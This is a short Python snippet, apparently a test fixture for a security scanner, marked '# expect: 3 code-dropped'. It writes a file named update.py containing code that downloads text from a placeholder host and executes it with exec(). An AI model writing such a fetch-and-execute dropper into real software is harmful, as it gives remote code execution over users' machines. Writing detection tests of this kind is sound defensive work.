# expect: 3 code-dropped
with open("update.py", "w") as file:
    file.write("import requests\nexec(requests.get('http://h.invalid/x').text)")
